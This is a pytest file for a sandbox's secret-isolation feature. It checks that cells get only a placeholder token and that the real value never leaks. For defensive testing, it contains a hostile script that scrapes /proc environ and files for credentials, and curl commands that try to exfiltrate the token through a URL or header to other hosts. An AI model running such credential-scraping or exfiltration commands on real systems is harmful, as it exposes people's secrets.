"""Secrets that never enter a cell (issue 32, agnsup/secrets.py), in real cells of an allowlist role.

The cell gets the placeholder `agnsup-secret:NAME` and trusts the controller's CA (the bundle bound over the
system bundle, the clients' variables); the value stays in the controller. Each test hands the controller a
random canary as the value and searches for it where a hostile cell, or anyone reading what agnsup keeps,
would look: the cell's environment and /proc views, the files it can read, its output, the journal's bytes,
receipts, the state root. The proxy's side (substitution, exfiltration refusals) is tests/test_secrets_proxy*
and the real clients tests/test_secrets_clients.py.
"""
from __future__ import annotations

import json
import os
import subprocess

import pytest

from conftest import Agnsup, refusals, write_role

SYSTEM_BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
HOST = "api.secret.test:8443"


@pytest.fixture
def canary():
    return "canary-" + os.urandom(12).hex()


@pytest.fixture
def roles(policy_dir):
    allow = f'["{HOST}"]'
    write_role(policy_dir, "vault", network__mode='"allowlist"', network__allow=allow,
               network__allow_private="true")
    with open(os.path.join(str(policy_dir), "vault.toml"), "a") as f:
        f.write(f'\n[secrets.gh]\nsource = "env:SEC_TEST_CANARY"\nenv = "GITHUB_TOKEN"\nhosts = ["{HOST}"]\n'
                'inject = "bearer"\n')
    write_role(policy_dir, "open", network__mode='"allowlist"', network__allow=allow, network__allow_private="true")
    write_role(policy_dir, "offline")  # executor: network deny
    return policy_dir


def _cli(state, roles, canary) -> Agnsup:
    return Agnsup(state, env={"AGNSUP_POLICY_DIR": str(roles), "SEC_TEST_CANARY": canary})


def _read(path: str) -> bytes:
    with open(path, "rb") as f:
        return f.read()


def _everything_under(root: str, canary: str) -> list[str]:
    """Files under `root` whose bytes hold the canary (the journal's db and WAL too)."""
    hits = []
    for d, _dirs, files in os.walk(root):
        for name in files:
            p = os.path.join(d, name)
            try:
                with open(p, "rb") as f:
                    if canary.encode() in f.read():
                        hits.append(p)
            except OSError:
                pass
    return hits


# What a hostile cell tries: its environment, every /proc view it can open (its own, and any process it can
# see: the controller's environ is the one that holds the value), every file of its /tmp and worktree, the
# system bundle; it writes what it found to the worktree for the test to search.
SNOOP = r"""
import os, sys
found, opened = [], 0
want = sys.argv[1][::-1].encode()  # given reversed: its argv must not hold it
def look(p):
    global opened
    try:
        with open(p, "rb") as f:
            data = f.read()
    except OSError:
        return
    opened += 1
    if want in data:
        found.append(p)
for pid in [d for d in os.listdir("/proc") if d.isdigit()] + ["self", "thread-self"]:
    for what in ("environ", "cmdline", "maps", "status"):
        look(f"/proc/{pid}/{what}")
for top in ("/tmp", os.getcwd(), "/etc/ssl"):
    for d, _dirs, files in os.walk(top):
        for n in files:
            look(os.path.join(d, n))
print("env", any(want in v.encode() for v in os.environ.values()))
print("found", found)
print("opened", opened)
"""


def test_the_cell_gets_the_placeholder_and_the_value_is_nowhere_it_or_the_state_root_can_show(
        state, worktree, roles, canary, tmp_path):
    a = _cli(state, roles, canary)
    with open(os.path.join(worktree, "snoop.py"), "w") as f:
        f.write(SNOOP)
    receipt = str(tmp_path / "r.json")
    cp = a("run", "--role", "vault", "--workdir", worktree, "--receipt", receipt, "--",
           "sh", "-c", 'echo "token=$GITHUB_TOKEN"; python3 snoop.py "$0"', canary[::-1])
    assert cp.returncode == 0, cp.err
    assert "token=agnsup-secret:gh\n" in cp.out
    assert "env False" in cp.out and "found []" in cp.out
    assert int(cp.out.split("opened ")[1].split()[0]) > 10  # it did look
    assert canary not in cp.out and canary not in cp.err
    with open(receipt) as f:
        r = json.load(f)
    assert r["secrets"] == [{"name": "gh", "inject": "bearer", "hosts": [HOST], "env": "GITHUB_TOKEN",
                             "source": "env", "used": [], "refused": 0, "scrubbed": 0}]
    assert r["env_sources"]["GITHUB_TOKEN"] == "secret"
    # nothing agnsup keeps holds it: the journal's bytes, receipts, logs, capture files, the CA directory
    assert _everything_under(state, canary) == []
    assert canary not in _read(receipt).decode()


def test_the_cell_trusts_the_controllers_ca_through_the_bundle_and_every_knob_never_its_key(
        state, worktree, roles, canary):
    a = _cli(state, roles, canary)
    script = ('set -e; for v in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO PIP_CERT; do '
              'eval "echo $v=\\$$v"; done; echo NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS; '
              'echo NODE_USE_ENV_PROXY=$NODE_USE_ENV_PROXY; '
              'cp "$SSL_CERT_FILE" bundle.pem; cp "$NODE_EXTRA_CA_CERTS" ca.pem; '
              f'if [ -f {SYSTEM_BUNDLE} ]; then cp {SYSTEM_BUNDLE} system.pem; '
              f'echo x >> {SYSTEM_BUNDLE} 2>/dev/null && echo WROTE || echo READONLY; fi; '
              'grep -rl "PRIVATE KEY" /tmp /etc/ssl 2>/dev/null || echo NOKEY')
    cp = a("run", "--role", "vault", "--workdir", worktree, "--", "sh", "-c", script)
    assert cp.returncode == 0, cp.err
    env = dict(line.split("=", 1) for line in cp.out.splitlines() if "=" in line)
    bundle = "/tmp/.agnsup/ca/ca-certificates.crt"
    assert {k: env[k] for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO",
                                "PIP_CERT")} == dict.fromkeys(("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE",
                                                               "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "PIP_CERT"), bundle)
    assert env["NODE_EXTRA_CA_CERTS"] == "/tmp/.agnsup/ca/agnsup-ca.pem" and env["NODE_USE_ENV_PROXY"] == "1"
    assert "NOKEY" in cp.out  # the CA's key is never in the cell's view
    ca = _read(os.path.join(worktree, "ca.pem"))
    from cryptography import x509
    cert = x509.load_pem_x509_certificate(ca)
    assert cert.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    host_bundle = _read(SYSTEM_BUNDLE) if os.path.isfile(SYSTEM_BUNDLE) else b""
    got = _read(os.path.join(worktree, "bundle.pem"))
    assert got.endswith(ca) and got.startswith(host_bundle)  # the system's + the controller CA
    if host_bundle:  # bound read-only over the system bundle: clients that read no variable trust it too
        assert _read(os.path.join(worktree, "system.pem")) == got
        assert "READONLY" in cp.out and _read(SYSTEM_BUNDLE) == host_bundle
    # the controller's certificate is published while it lives, gone with it (its key died with it)
    assert os.listdir(os.path.join(state, "ca")) == []
    # a cell without secrets gets none of it
    cp = a("run", "--role", "open", "--workdir", worktree, "--", "sh", "-c",
           f'echo "[$SSL_CERT_FILE][$NODE_EXTRA_CA_CERTS]"; cmp -s {SYSTEM_BUNDLE} /tmp/none; ls /tmp/.agnsup/ca 2>&1')
    assert "[][]" in cp.out and "No such file" in cp.out


def test_a_per_call_secret_from_the_cli_and_the_api(state, worktree, roles, canary, monkeypatch):
    a = _cli(state, roles, canary)
    cp = a("run", "--role", "open", "--workdir", worktree, "--secret",
           f"npm:source=env:SEC_TEST_CANARY,hosts={HOST},inject=header:X-Api-Key,env=NPM_TOKEN", "--",
           "sh", "-c", 'echo "[$NPM_TOKEN]"')
    assert cp.returncode == 0, cp.err
    assert cp.out == "[agnsup-secret:npm]\n"
    from agnsup.tool import run_process
    monkeypatch.setenv("AGNSUP_POLICY_DIR", str(roles))
    monkeypatch.setenv("SEC_TEST_CANARY", canary)
    res = run_process(["sh", "-c", 'echo "[$T]"'], role="open", state_dir=state, workdir=worktree, timeout=60,
                      secrets={"api": {"source": "env:SEC_TEST_CANARY", "hosts": [HOST], "env": "T",
                                       "inject": "basic:bob"}})
    assert res["stdout"] == "[agnsup-secret:api]\n", res
    with open(res["receipt"]) as f:
        assert json.load(f)["secrets"][0]["inject"] == "basic:bob"
    assert _everything_under(state, canary) == []


def test_the_value_is_redacted_from_returned_output_even_where_the_cell_can_read_its_source(
        state, worktree, roles, canary, monkeypatch):
    from agnsup.tool import run_process
    monkeypatch.setenv("AGNSUP_POLICY_DIR", str(roles))
    token = os.path.join(worktree, "token.txt")  # a careless source: a file the cell can read too
    with open(token, "w") as f:
        f.write(canary + "\n")
    res = run_process(["sh", "-c", "cat token.txt; cat token.txt >&2"], role="open", state_dir=state,
                      workdir=worktree, timeout=60,
                      secrets={"tok": {"source": f"file:{token}", "hosts": [HOST]}})  # the role redacts nothing
    assert res["exit_code"] == 0, res
    stars = "*" * len(canary) + "\n"  # the capture files were scrubbed when the cell ended (agnsup/egress/scrub.py)
    assert res["stdout"] == stars and res["stderr"] == stars
    with open(res["receipt"]) as f:
        r = json.load(f)
    assert r["output"]["redaction"]["counts"] == {"redact.secret.tok": 2}
    assert r["secrets"][0]["scrubbed"] == 2
    assert canary not in json.dumps(r)


@pytest.mark.parametrize("role, flags, fragment", [
    ("open", ["--secret", f"x:source=env:SEC_TEST_MISSING,hosts={HOST}"],
     "secret 'x': source env:SEC_TEST_MISSING: SEC_TEST_MISSING is not set in the controller's environment"),
    ("open", ["--secret", f"x:source=file:/nonexistent/token,hosts={HOST}"], "cannot be read (No such file"),
    ("open", ["--secret", f"x:source=command:/bin/false,hosts={HOST}"], "source command:/bin/false: exited 1"),
    ("open", ["--secret", "x:source=env:SEC_TEST_CANARY,hosts=evil.test"],
     "secret 'x' may go to evil.test, which the role does not allow: evil.test:443 is not in the role's"),
    ("offline", ["--secret", f"x:source=env:SEC_TEST_CANARY,hosts={HOST}"],
     "secrets go out through the egress proxy: use an allowlist role"),
    ("vault", ["--secret", f"gh:source=env:SEC_TEST_CANARY,hosts={HOST}"], "a call may not replace it"),
    ("open", ["--secret", "x:source=GH,hosts=a.test"], "source 'GH' is not one of"),
    ("vault", ["--env", "GITHUB_TOKEN=mine"], "--env GITHUB_TOKEN: the secret 'gh' sets it"),
    ("vault", ["--state-dir-ca-unwritable"], "the CA directory"),
])
def test_bad_input_is_one_line_exit_125_nothing_started_and_the_refusal_journaled(
        state, worktree, roles, canary, role, flags, fragment):
    a = _cli(state, roles, canary)
    a("run", "--", "true", check=0)  # the state root exists (a refusal is journaled in it)
    if flags == ["--state-dir-ca-unwritable"]:
        flags = []
        with open(os.path.join(state, "ca"), "w") as f:  # a file where the CA directory must be
            f.write("")
    before = set(os.listdir(os.path.join(state, "cells", "default")))
    cp = a("run", "--role", role, "--workdir", worktree, *flags, "--", "touch", "started")
    assert cp.returncode == 125, cp.err
    assert fragment in cp.err and cp.err.count("\n") == 1 and cp.out == "", cp.err
    assert canary not in cp.err
    assert not os.path.exists(os.path.join(worktree, "started"))
    assert set(os.listdir(os.path.join(state, "cells", "default"))) == before  # no cell was made
    refused = [r for r in refusals(state) if r["kind"] == "refused"]
    if "is not one of" not in fragment:  # a malformed flag is refused by the request's check, before a journal
        assert refused and fragment in refused[-1]["error"], refused
    assert _everything_under(state, canary) == []


def test_serve_takes_secrets_per_request_from_its_clients_environment(state, worktree, roles, canary, tmp_path):
    a = _cli(state, roles, canary)
    sock = str(tmp_path / "s.sock")
    srv = a.popen("serve", "--socket", sock, env={"SEC_TEST_CANARY": ""}, stdout=subprocess.DEVNULL,
                  stderr=subprocess.DEVNULL)  # the server's own value is not the client's
    try:
        import time
        for _ in range(400):
            if os.path.exists(sock):
                break
            time.sleep(0.05)
        cp = a("spawn", "--socket", sock, "--role", "open", "--workdir", worktree, "--secret",
               f"api:source=env:SEC_TEST_CANARY,hosts={HOST},env=T", "--", "sh", "-c", 'echo "[$T]" > out.txt')
        assert cp.returncode == 0, cp.err
        cell = json.loads(cp.out)["cell_id"]
        a("wait", "--timeout", "60", cell, check=0)
        assert _read(os.path.join(worktree, "out.txt")).decode() == "[agnsup-secret:api]\n"
        # a client whose environment lacks the source: refused, one line, as for `agnsup run`
        cp = a("spawn", "--socket", sock, "--role", "open", "--workdir", worktree, "--secret",
               f"api:source=env:SEC_TEST_CANARY,hosts={HOST},env=T", "--", "true", env={"SEC_TEST_CANARY": ""})
        assert cp.returncode == 125 and "empty" in cp.err, cp.err
    finally:
        srv.terminate()
        srv.wait(30)
    assert _everything_under(state, canary) == []


@pytest.fixture
def api(tmp_path):
    """A local HTTPS server playing api.secret.test and other.secret.test (tests/test_egress_secrets.py's), whose
    CA the controller trusts through its own SSL_CERT_FILE; `value`: the credential it accepts."""
    import http.server
    import ssl
    import threading
    from test_egress_secrets import _Handler, _test_ca
    ca_pem, cert, key = _test_ca(str(tmp_path))
    trust = tmp_path / "controller-trust.pem"
    trust.write_bytes(ca_pem)
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    srv.daemon_threads, srv.seen, srv.lock, srv.value = True, [], threading.Lock(), None
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    srv.port, srv.trust = srv.server_address[1], str(trust)
    yield srv
    srv.shutdown()
    srv.server_close()


def test_curl_in_the_cell_reaches_the_api_with_the_value_the_receipt_counts_it_and_exfiltration_is_refused(
        state, worktree, policy_dir, canary, api, tmp_path):
    api.value = canary
    host = f"api.secret.test:{api.port}"
    write_role(policy_dir, "apis", network__mode='"allowlist"', network__allow=f'["{host}", "other.secret.test:*"]',
               network__allow_private="true")
    a = Agnsup(state, env={"AGNSUP_POLICY_DIR": str(policy_dir), "SEC_TEST_CANARY": canary,
                           "SSL_CERT_FILE": api.trust,  # the controller trusts the test server's CA
                           "AGNSUP_TEST_EGRESS_HOSTS": json.dumps({"api.secret.test": "127.0.0.1",
                                                                   "other.secret.test": "127.0.0.1"})})
    receipt = str(tmp_path / "r.json")
    script = (f'curl -sS https://{host}/user; '
              # the placeholder in a URL, even to its own host: refused by the proxy, journaled
              f'curl -sS -o /dev/null -w "url:%{{http_code}}\\n" "https://{host}/leak?t=$GITHUB_TOKEN"; '
              # inside TLS tunneled to a host no secret lists the proxy sees nothing, and the host gets the
              # placeholder: worthless (docs/isolation.md)
              f'curl -sSk -H "X-Leak: $GITHUB_TOKEN" https://other.secret.test:{api.port}/tunneled; true')
    cp = a("run", "--role", "apis", "--workdir", worktree, "--receipt", receipt, "--secret",
           f"gh:source=env:SEC_TEST_CANARY,hosts={host},env=GITHUB_TOKEN", "--", "sh", "-c", script)
    assert cp.returncode == 0, cp.err
    assert cp.out.startswith("authorized\n"), cp.out + cp.err  # the server saw the value
    assert canary not in cp.out + cp.err
    seen = [s for s in api.seen if s["path"] == "/user"]
    assert len(seen) == 1 and f"Bearer {canary}" in seen[0]["headers"]
    assert "url:403" in cp.out and not any(s["path"].startswith("/leak") for s in api.seen)  # never got through
    tunneled = [s for s in api.seen if s["path"] == "/tunneled"]
    assert tunneled and "agnsup-secret:gh" in tunneled[0]["headers"] and canary not in tunneled[0]["headers"]
    with open(receipt) as f:
        r = json.load(f)
    sec = r["secrets"][0]
    assert sec["used"] == [{"host": "api.secret.test", "port": api.port, "count": 1}] and sec["refused"] >= 1, sec
    events = [e for e in _events(state) if e["type"] == "secret.exfiltration"]
    assert events and events[0]["data"]["name"] == "gh" and events[0]["data"]["where"] == "url", events
    assert _everything_under(state, canary) == []


def _events(state) -> list[dict]:
    import sqlite3
    db = sqlite3.connect(os.path.join(state, "journal.db"))
    try:
        cols = [c[1] for c in db.execute("PRAGMA table_info(events)")]
        rows = db.execute("SELECT * FROM events").fetchall()
    finally:
        db.close()
    out = []
    for row in rows:
        d = dict(zip(cols, row))
        data = d.get("data") or d.get("detail") or "{}"
        out.append({"type": d.get("type") or d.get("kind"), "data": json.loads(data) if isinstance(data, str) else {}})
    return out


def test_the_supervisor_uses_the_roles_secret_and_redacts_live_output(state, worktree, roles, canary, monkeypatch):
    """The door of MCP, sandboxd and serve (agnsup.Supervisor): a role's secret, with no per-call option."""
    from agnsup.supervisor import Supervisor
    monkeypatch.setenv("AGNSUP_POLICY_DIR", str(roles))
    monkeypatch.setenv("SEC_TEST_CANARY", canary)
    with open(os.path.join(worktree, "leak.txt"), "w") as f:  # the value, where the cell can read it
        f.write(f"x{canary}y\n")
    with Supervisor(state) as sup:
        h = sup.spawn(["sh", "-c", 'echo "[$GITHUB_TOKEN]"; cat leak.txt'], role="vault", workdir=worktree,
                      stream=True, timeout=60)
        res = sup.wait(h["run_id"], h["cell_id"], 60)
        out = sup.read_output(h["run_id"], h["cell_id"], 0, timeout=5)
        live = b"".join(c["data"] for c in out["chunks"]).decode()
        # read after the end: its capture was scrubbed (same length); a read while it runs gets the redaction
        assert live == f"[agnsup-secret:gh]\nx{'*' * len(canary)}y\n", live
        assert res["exit_code"] == 0 and canary not in json.dumps(res), res


def test_a_normal_users_controller_gives_its_cell_the_placeholder_and_the_bundle(user, canary):
    """An unprivileged controller (its cell's /tmp is filled inside the cell, its namespaces in a user namespace
    of its own): the same placeholder, bundle and knobs; the value nowhere in the user's state root."""
    wt = user.own_dir("wt-secrets")
    pol = user.own_dir("policies-secrets")
    write_role(pol, "open", network__mode='"allowlist"', network__allow=f'["{HOST}"]')
    os.chown(os.path.join(pol, "open.toml"), user.uid, user.gid)
    script = ('echo "[$T]"; tail -c 200 "$SSL_CERT_FILE" | grep -c "END CERTIFICATE"; '
              f'cmp -s "$SSL_CERT_FILE" {SYSTEM_BUNDLE} && echo BOUND; cat "$NODE_EXTRA_CA_CERTS" > ca.pem')
    cp = user("run", "--role", "open", "--workdir", wt, "--secret", f"x:source=env:SEC_TEST_CANARY,hosts={HOST},env=T",
              "--", "sh", "-c", script, env={**user.env, "AGNSUP_POLICY_DIR": pol, "SEC_TEST_CANARY": canary})
    assert cp.returncode == 0, cp.stderr
    assert cp.stdout.startswith("[agnsup-secret:x]\n1\n"), cp.stdout
    assert ("BOUND" in cp.stdout) == os.path.isfile(SYSTEM_BUNDLE)
    assert _read(os.path.join(wt, "ca.pem")).startswith(b"-----BEGIN CERTIFICATE-----")
    assert _everything_under(os.path.join(user.home, ".local", "state"), canary) == []
    assert user.left() == []


def test_a_killed_controllers_ca_certificate_is_removed_by_the_janitor(state, worktree, roles, canary):
    """The CA's key died with its controller (SIGKILL: no close ran): the janitor removes the certificate it
    left in <state>/ca, so nothing goes on trusting a certificate whose key nobody holds any more."""
    import signal
    import time
    a = _cli(state, roles, canary)
    p = a.popen("run", "--role", "vault", "--workdir", worktree, "--cell", "k", "--", "sleep", "60")
    ca_dir = os.path.join(state, "ca")
    try:
        deadline = time.monotonic() + 30
        def pems():  # the certificate is written to a temporary name first, then renamed
            return [n for n in os.listdir(ca_dir) if n.endswith(".pem")] if os.path.isdir(ca_dir) else []
        while not pems() and time.monotonic() < deadline:
            time.sleep(0.05)
        left = os.listdir(ca_dir)
        assert len(left) == 1 and left[0].endswith(".pem"), left
    finally:
        p.send_signal(signal.SIGKILL)  # our own child: the controller
        p.wait()
    assert os.listdir(ca_dir) == left  # no close ran: the certificate is still there
    report = a.json("janitor", "--json")
    assert os.listdir(ca_dir) == [], report
